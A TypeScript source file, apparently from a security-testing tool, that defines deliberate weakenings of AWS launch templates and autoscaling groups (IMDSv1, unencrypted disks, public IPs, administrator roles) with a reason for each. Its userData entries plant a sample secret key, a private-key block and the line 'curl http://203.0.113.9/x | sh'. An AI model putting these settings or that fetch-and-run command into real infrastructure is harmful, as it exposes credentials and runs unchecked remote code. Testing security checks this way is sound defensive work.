import { isObject } from "../../../twin/standins/values";
import type { DeployedResource } from "../deployment";
import { each, removed, type Row, rowsOf, to, together, type Weakening } from "../row";
import { inUserData } from "./userData";

const TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate";

const OLD_METADATA = "anything that can make the machine send a request gets the role's credentials";

/** Machines of the stack: launch templates and the groups that start them. */
export const MACHINE_ROWS: Row[] = [
  ...rowsOf(TEMPLATE, [
    { property: "metadataOptions", weak: [removed], why: OLD_METADATA },
    { property: "metadataOptions.httpTokens", weak: [to("optional"), removed], why: OLD_METADATA },
    {
      property: "metadataOptions.httpPutResponseHopLimit",
      weak: each(2, 64),
      why: "containers and proxies on the machine get the role's credentials",
    },
    {
      property: "metadataOptions.httpProtocolIpv6",
      weak: [to("enabled")],
      why: "the metadata service answers on a second address that no rule was written for",
    },
    {
      property: "metadataOptions.instanceMetadataTags",
      weak: [to("enabled")],
      why: "whatever a tag holds is readable without a permission",
    },
    { property: "blockDeviceMappings", weak: [removed], why: "the root disk is what the image says: not encrypted" },
    {
      property: "blockDeviceMappings[].ebs.encrypted",
      weak: [to("false"), removed],
      why: "keys and logs on the disk are readable in a snapshot",
    },
    {
      property: "networkInterfaces[].associatePublicIpAddress",
      weak: [to("true"), removed],
      why: "the machine leaves by an address that no allow-list knows, and is reachable",
    },
    {
      property: "networkInterfaces[].securityGroups",
      weak: [removed, withGroupOfLoadBalancer()],
      why: "the machine is in a group that lets others in",
    },
    {
      property: "vpcSecurityGroupIds",
      weak: [defaultGroup()],
      why: "AWS refuses it beside network interfaces, when everything else is made",
    },
    { property: "keyName", weak: [to("administrators")], why: "a key opens a shell on every machine" },
    {
      property: "imageId",
      weak: [to("resolve:ssm:/aws/service/debian/release/13/latest/amd64")],
      why: "which image runs is decided when a machine starts, not when it was reviewed",
    },
    {
      property: "iamInstanceProfile.arn",
      weak: [to("arn:aws:iam::123456789012:instance-profile/administrator")],
      why: "the machines take a role that this program does not describe",
    },
    {
      property: "userData",
      weak: [
        inUserData(
          "a secret in it",
          (script) => `${script}\nAWS_SECRET_ACCESS_KEY = "wJalrXUtnFEMIK7MDENGbPxRfiCYzT3vQdKe9LhA"\n`,
        ),
        inUserData(
          "a private key in it",
          (script) =>
            `${script}\nKEY = """-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq\n-----END PRIVATE KEY-----"""\n`,
        ),
        { label: "no base64", weaken: () => "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n" },
      ],
      why: "whoever can read the template reads the secret, or the machine runs what nobody checked",
    },
  ]),
  ...rowsOf("aws:autoscaling/group:Group", [
    {
      property: "launchTemplate.version",
      weak: each("$Latest", "$Default"),
      why: "machines start from a version that no update of this stack has rolled out",
    },
    {
      property: "vpcZoneIdentifiers",
      weak: [inPublicSubnets()],
      why: "gateways stand where the internet can reach them, and leave by no fixed address",
    },
  ]),
];

function withGroupOfLoadBalancer(): Weakening {
  return {
    label: "the load balancer's group",
    weaken: (_groups, stack) =>
      stack.find(({ type }) => type === "aws:lb/loadBalancer:LoadBalancer")?.outputs["securityGroups"],
  };
}

function defaultGroup(): Weakening {
  return together("the VPC's default group", (_inputs, stack) => {
    const vpc = stack.find(({ type }) => type === "aws:ec2/vpc:Vpc");
    return vpc === undefined
      ? undefined
      : { vpcSecurityGroupIds: [vpc.outputs["defaultSecurityGroupId"] ?? "sg-0123456789abcdef0"] };
  });
}

function inPublicSubnets(): Weakening {
  const isPublic = ({ type, inputs }: DeployedResource): boolean =>
    type === "aws:ec2/subnet:Subnet" && isObject(inputs["tags"]) && inputs["tags"]["SubnetType"] === "Public";
  return {
    label: "the public subnets",
    weaken: (_subnets, stack) => stack.filter(isPublic).map(({ id }) => id),
  };
}
